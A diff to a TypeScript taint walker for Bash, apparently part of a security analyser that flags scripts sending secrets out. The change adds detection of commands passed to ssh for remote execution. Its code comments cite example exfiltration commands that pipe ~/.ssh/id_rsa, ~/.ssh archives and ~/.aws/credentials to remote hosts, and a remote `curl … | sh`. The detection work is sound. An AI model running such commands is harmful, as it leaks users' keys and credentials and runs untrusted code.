@@ -4,7 +4,7 @@ import { BROWSER_PROGRAMS, dnsLookupProgram, DNS_PROGRAMS, HOME_VARIABLES, workl
 import type { HelperReuse, OutsideRead } from './helper-replay';
 import { findAll, MAX_DEPTH, MAX_LITERAL_LOOP_ITEMS, unquote, WalkerBase, type FunctionInfo } from './walker';
 import { programIndex } from '../shell-wrappers';
-import { inlineProgramFlag, installsCronTableFromStdin, programFileName, readsProgramFromStdin, uploadedFilePath } from './shell-text';
+import { inlineProgramFlag, installsCronTableFromStdin, programFileName, readsProgramFromStdin, sshDestination, uploadedFilePath } from './shell-text';
 
 /**
  * Taint walk over a Bash tree. Values flow through variables, command substitution, pipes
@@ -566,8 +566,13 @@ export class BashWalker extends WalkerBase {
     // `ssh host 'cat > k' < ~/.ssh/id_rsa`, `tar cz ~/.ssh | ssh host …`: ssh sends its standard
     // input to the remote command.
     if (program === 'ssh') {
-      const host = sshHost(texts);
+      const destination = sshDestination(texts);
+      const host = destination === undefined ? undefined : sshHost(texts[destination] ?? '*');
       if (host && !isLocalHost(host)) this.reachSink(stdin, this.recorder.sink('command', `\`ssh\` to ${host}`, node.startIndex, node.endIndex, host), 'payload');
+      // `ssh "$h" 'curl … | sh'`: the words after the destination are a command line the remote
+      // shell runs, with the user's keys, on each machine the loop reaches.
+      const remote = destination === undefined ? [] : words.slice(destination + 1);
+      if (remote.length > 0) this.runsText(node, `\`ssh\` on ${host ?? 'another machine'}`, spaced(remote), 'command.sh');
       return EMPTY;
     }
     // `ftp host <<EOF … put ~/.aws/credentials k … EOF`: the file transfer clients read their
@@ -1013,20 +1018,9 @@ function translate(text: string, from: string, to: string): string | undefined {
   return [...text].map((character) => map.get(character) ?? character).join('');
 }
 
-/** ssh's options that take a value, so that the value is not read as the host. */
-const SSH_VALUE_OPTION = /^-[bcDEeFIiJLlmOopQRSWw]$/;
-
-/** The host an `ssh` command connects to (`user@host` gives `host`), if it names one. */
-function sshHost(texts: readonly string[]): string | undefined {
-  for (let index = 1; index < texts.length; index++) {
-    const text = texts[index] ?? '';
-    if (text.startsWith('-')) {
-      if (SSH_VALUE_OPTION.test(text)) index++;
-      continue;
-    }
-    return text === '*' ? undefined : text.replace(/^[^@]*@/, '');
-  }
-  return undefined;
+/** The host an `ssh` destination names (`user@host` gives `host`), if it is known. */
+function sshHost(destination: string): string | undefined {
+  return destination === '*' ? undefined : destination.replace(/^[^@]*@/, '');
 }
 
 function isLocalHost(host: string): boolean {
